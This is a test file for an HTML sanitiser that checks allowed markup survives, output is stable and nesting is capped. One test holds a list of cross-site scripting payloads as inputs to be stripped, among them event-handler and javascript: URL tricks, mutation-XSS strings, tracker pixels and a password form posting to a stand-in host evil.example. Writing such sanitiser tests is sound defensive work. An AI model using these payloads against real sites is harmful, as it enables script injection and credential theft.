import fc from 'fast-check'
import t from 'tap'
import { safeHtml, safeSection } from './html.ts'
import type { ContentSection } from './rules/sections/sections.ts'

t.test('sanitising leaves allowed HTML unchanged', async (t) => {
  for (const html of [
    '<h2>Flares</h2><p>Rest <em>early</em>, not <strong>late</strong>.</p>',
    '<ul><li>Water</li><li>Shade</li></ul>',
    '<table><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    '<p><a href="/forums/heat">Heat</a>, <a href="mailto:help@example.org">write</a></p>',
  ])
    t.equal(safeHtml(html), html)
  t.equal(safeHtml('<h1>Title</h1>'), '<h2>Title</h2>', 'the one h1 is the screen’s')
  t.equal(
    safeHtml('<a href="https://example.org/" target="_blank">out</a>'),
    '<a href="https://example.org/" rel="noreferrer">out</a>',
  )
  t.equal(
    safeHtml('<img src="/media/a.png" alt="A hand" width="40" height="30">'),
    '<img src="/media/a.png" alt="A hand" width="40" height="30" loading="lazy" />',
  )
})

t.test('sanitising removes scripts, frames, styles and requests to other hosts from HTML', async (t) => {
  const hostile: [html: string, safe: string][] = [
    ['<script>alert(1)</script>', ''],
    ['<p onclick="alert(1)" style="position:fixed" class="x" id="content">Hi</p>', '<p>Hi</p>'],
    ['<img src=x onerror=alert(1)>', ''],
    // A picture without a size is removed, but the text around it is kept.
    ['<img src="/a.png"><p><a href="/x">one</a></p><p>two</p>', '<p><a href="/x">one</a></p><p>two</p>'],
    ['<img src="https://tracker.example/p.gif" alt="" width="1" height="1">', ''],
    ['<img src="//tracker.example/p.gif" alt="" width="1" height="1">', ''],
    ['<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="" width="1" height="1">', ''],
    ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="&#1;javascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
    ['<a href="//evil.example/">x</a>', '<a>x</a>'],
    ['<iframe src="https://evil.example"></iframe>', ''],
    ['<object data="x"></object><embed src="x"><base href="//evil.example/">', ''],
    ['<form action="//evil.example"><input name="password"><button>Log in</button></form>', 'Log in'],
    ['<style>@import url(//evil.example)</style>', ''],
    [
      '<link rel="stylesheet" href="//evil.example"><meta http-equiv="refresh" content="0;//evil.example">',
      '',
    ],
    ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ''],
    ['<svg/onload=alert(1)>', ''],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
    ['<p><!-- --!><script>alert(1)</script> -->Hi</p>', '<p> --&gt;Hi</p>'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
  ]
  for (const [html, safe] of hostile) {
    const cleaned = safeHtml(html)
    t.notMatch(cleaned, /<(?!\/?(?:p|a|h2|img|table)\b)|javascript|onerror|evil|tracker|style=/i, html)
    if (safe) t.equal(cleaned, safe, html)
  }
})

t.test('sanitising HTML a second time changes nothing', async () => {
  const piece = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '=',
    '&lt;',
    '&#x3c;',
    'script',
    'img',
    ' src',
    'p',
    '/',
    '--',
    '!',
    ' ',
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 4 })), { maxLength: 40 }), (pieces) => {
      const once = safeHtml(pieces.join(''))
      return safeHtml(once) === once
    }),
  )
})

t.test('sanitised HTML has at most 30 levels of nested tags', async (t) => {
  const deep = safeHtml('<p><b>'.repeat(40))
  t.equal(deep.match(/<[pb]>/g)?.length, 30)
  t.equal(deep, safeHtml('<p><b>'.repeat(15)))
})

t.test('sanitising a section changes only its HTML fields, for all section types', async (t) => {
  const frame = { isAuthwalled: false, sectionBackgroundColor: 'plain' } as const
  const quote = { type: 'Quote', options: { text: 'a <b> c' }, ...frame } as const
  t.same(safeSection(quote), quote)
  const html = '<p>Hi<script>x</script></p>'
  const copy = { type: 'CopyItem', options: { heading: 'a <b> c', html }, ...frame } as const
  for (const section of [copy, { type: 'HTML', options: { html }, ...frame } as const])
    t.same(safeSection<ContentSection>(section), {
      ...section,
      options: { ...section.options, html: '<p>Hi</p>' },
    })
})

t.test('HTML with more elements inside of each other than texts have keeps its words only', async (t) => {
  const nested = (depth: number) => `${'<blockquote>'.repeat(depth)}a &lt; b${'</blockquote>'.repeat(depth)}`
  t.equal(safeHtml(nested(20)), nested(20))
  t.equal(safeHtml(nested(150)).trim(), 'a &lt; b')
  t.equal(safeHtml('<p>One</p>'.repeat(150)), '<p>One</p>'.repeat(150))
})
